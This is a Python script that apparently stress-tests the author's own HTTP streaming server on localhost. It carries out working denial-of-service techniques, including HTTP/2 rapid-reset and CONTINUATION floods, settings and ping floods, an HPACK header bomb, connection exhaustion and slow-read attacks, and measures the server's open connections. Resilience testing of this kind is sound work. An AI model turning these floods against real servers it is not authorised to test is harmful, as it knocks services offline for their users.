#!/usr/bin/env python3
"""Attacks an HTTP server: http_attack.py ATTACK PORT --tls PORT --process ID [--stream NAME]

  http2     floods over HTTP/2, each on a connection of its own
  idle      as many connections without a request as the system allows, and one client that sends requests among them
  waiting   thousands of requests for a future playlist, reset or closed before the response
  slow      endless and pipelined responses that the client does not read, over HTTP/1.1, TLS and HTTP/2

PORT is the HTTP port; ID is the server's process, whose number of open files shows how many connections it still holds.
Prints the outcome as JSON.
"""
import argparse
import json
import os
import re
import resource
import select
import socket
import ssl
import struct
import time


def connect(port, receive_buffer=None, limit=10):
    connection = socket.socket()
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.settimeout(limit)
    connection.connect(("127.0.0.1", port))
    return connection


def connect_tls(port, protocol, receive_buffer=None):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    connection = context.wrap_socket(connect(port, receive_buffer))
    assert connection.selected_alpn_protocol() == protocol
    return connection


def ask(connection, path):
    """Sends a request on a persistent connection. Returns status and body; status 0 when the connection is closed."""
    try:
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
        text = b""
        while b"\r\n\r\n" not in text:
            piece = connection.recv(65536)
            if not piece:
                return 0, ""
            text += piece
        head, _, body = text.partition(b"\r\n\r\n")
        length = int(re.search(rb"(?i)content-length: (\d+)", head).group(1))
        while len(body) < length:
            body += connection.recv(65536)
        return int(head.split()[1]), body.decode("latin-1")
    except OSError:
        return 0, ""


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(path, method=b"\x82"):
    """A header block, RFC 7541: indexed fields of the static table, and literals without indexing."""
    text = path.encode()
    assert len(text) < 127
    return method + b"\x87" + b"\x01\x01a" + b"\x04" + bytes([len(text)]) + text


def get(stream, path):
    return frame(1, 0x5, stream, headers(path))


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


class Server:
    """The server under attack."""

    def __init__(self, options):
        self.port, self.tls, self.name, self.process = options.port, options.tls, options.stream, options.process

    def open_files(self):
        return len(os.listdir(f"/proc/{self.process}/fd"))

    def usual_files(self):
        """Maximum number of open files in three seconds, in which the players beside the attack connect."""
        maximum, end = 0, time.time() + 3
        while time.time() < end:
            maximum = max(maximum, self.open_files())
            time.sleep(0.1)
        return maximum

    def seconds_until(self, open_files, limit):
        """Seconds until at most `open_files` files are open; None after the limit."""
        begin = time.time()
        while time.time() - begin < limit:
            if self.open_files() <= open_files:
                return round(time.time() - begin, 1)
            time.sleep(0.1)
        return None


def http2(server):
    port, name = server.tls, server.name
    playlist, waiting = f"/{name}/playlist.m3u8", f"/{name}/live.m3u8?_HLS_msn=1"
    cancel = struct.pack(">I", 8)
    bomb = headers("/health") + b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000 + b"\xbe" * 8000
    attacks = {
        "reset": lambda: b"".join(get(i, playlist) + frame(3, 0, i, cancel) for i in range(1, 20001, 2)),
        "reset while waiting": lambda: b"".join(get(i, waiting) + frame(3, 0, i, cancel) for i in range(1, 20001, 2)),
        "provoked reset": lambda: b"".join(get(i, playlist) + frame(8, 0, i, bytes(4)) for i in range(1, 20001, 2)),
        "continuations": lambda: frame(1, 1, 1, headers("/health")) + frame(9, 0, 1, b"\x00\x01a\x01b" * 1000) * 2000,
        "empty continuations": lambda: frame(1, 1, 1, headers("/health")) + frame(9, 0, 1) * 200000,
        "settings": lambda: frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 50000,
        "pings": lambda: frame(6, 0, 0, b"12345678") * 200000,
        "empty data": lambda: frame(1, 4, 1, headers("/health", b"\x83")) + frame(0, 0, 1) * 200000,
        "priorities": lambda: b"".join(frame(2, 0, i, struct.pack(">IB", 0, 1)) for i in range(1, 100001, 2)),
        "header bomb": lambda: frame(1, 5, 1, bomb),
        "streams": lambda: b"".join(get(i, waiting) for i in range(1, 2001, 2)),
        "an oversize frame": lambda: b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(100000),
        "an invalid header block": lambda: frame(1, 5, 1, b"\x3f\xff\xff\xff\xff\xff\xff"),
    }
    ended = {}
    for attack, make in attacks.items():
        connection = connect_tls(port, "h2")
        begin = time.time()
        try:
            connection.sendall(PREFACE + make())
            while connection.recv(65536):
                pass
            ended[attack] = round(time.time() - begin, 2)
        except socket.timeout:
            ended[attack] = None
        except OSError:
            ended[attack] = round(time.time() - begin, 2)
        connection.close()
    honest = connect_tls(port, "h2")
    honest.sendall(PREFACE + get(1, "/health"))
    text = b""
    while b"ok\n" not in text:
        text += honest.recv(65536)
    return {"ended": ended}


def idle(server):
    port, name = server.port, server.name
    maximum = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    count = 12000 if maximum == resource.RLIM_INFINITY else min(12000, maximum - 100)
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, maximum))
    player, statuses = connect(port), []
    begin, connections = time.time(), []
    for number in range(count):
        if number % 250 == 0:
            statuses.append(ask(player, f"/{name}/playlist.m3u8")[0])
            # A response means that all earlier connections are accepted, so the listen backlog, which drops connections
            # when full, stays short.
            statuses.append(ask(connect(port), "/health")[0])
        connections.append(connect(port))
    statuses.append(ask(player, f"/{name}/playlist.m3u8")[0])
    newcomer = ask(connect(port), "/health")[0]
    poll = select.poll()
    numbers = {connection.fileno(): number for number, connection in enumerate(connections)}
    for connection in connections:
        poll.register(connection, select.POLLIN)
    closed = sorted(numbers[descriptor] for descriptor, _ in poll.poll(200))
    return {
        "opened": count, "seconds": round(time.time() - begin, 1), "player": sorted(set(statuses)), "newcomer": newcomer,
        "closed": len(closed), "lastClosed": closed[-1] if closed else None,
    }


def waiting(server):
    port, name, before = server.port, server.name, server.usual_files()
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    player, linger, count = connect(port), struct.pack("ii", 1, 0), 0
    for round_number in range(8):
        _, playlist = ask(player, f"/{name}/live.m3u8")
        next_number = int(re.findall(r"-(\d+)\.m4s", playlist)[-1]) + 2
        request = f"GET /{name}/live.m3u8?_HLS_msn={next_number} HTTP/1.1\r\nHost: a\r\n\r\n".encode()
        connections = [connect(port) for _ in range(400)]
        for connection in connections:
            connection.sendall(request)
        for connection in connections:
            if round_number % 2 == 0:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            connection.close()
        count += len(connections)
    forgotten = server.seconds_until(before + 5, 5)
    _, playlist = ask(player, f"/{name}/live.m3u8")
    next_number = int(re.findall(r"-(\d+)\.m4s", playlist)[-1]) + 1
    connections = [connect(port) for _ in range(500)]
    for connection in connections:
        connection.sendall(f"GET /{name}/live.m3u8?_HLS_msn={next_number} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    statuses = {connection.recv(12).decode() for connection in connections}
    return {"count": count, "secondsUntilForgotten": forgotten, "answers": sorted(statuses)}


def slow(server):
    port, tls, name, before = server.port, server.tls, server.name, server.usual_files()
    _, playlist = ask(connect(port), f"/{name}/playlist.m3u8")
    segment = re.findall(r"^[^#\s]+\.ts$", playlist, re.M)[-1]
    motion_jpeg = f"GET /{name}/mjpeg?fps=30 HTTP/1.1\r\nHost: a\r\n\r\n".encode()
    segments = f"GET /{name}/{segment} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * 500
    closed_window = frame(4, 0, 0, struct.pack(">HI", 4, 0))
    streams = b"".join(get(2 * i + 1, f"/{name}/mjpeg" if i % 2 else f"/{name}/{segment}") for i in range(40))
    connections = []
    for make in (lambda: connect(port, 2048), lambda: connect_tls(tls, "http/1.1", 2048)):
        for request in (motion_jpeg, segments):
            for _ in range(10):
                connections.append(make())
                connections[-1].sendall(request)
    for _ in range(5):
        connections.append(connect_tls(tls, "h2", 2048))
        connections[-1].sendall(PREFACE + closed_window + streams)
    time.sleep(1)
    held = server.open_files() - before
    return {"connections": len(connections), "held": held, "secondsUntilClosed": server.seconds_until(before + 5, 60)}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=["http2", "idle", "waiting", "slow"])
    parser.add_argument("port", type=int)
    parser.add_argument("--tls", type=int, required=True)
    parser.add_argument("--process", type=int, required=True)
    parser.add_argument("--stream", default="live")
    options = parser.parse_args()
    print(json.dumps(globals()[options.attack](Server(options))))


main()
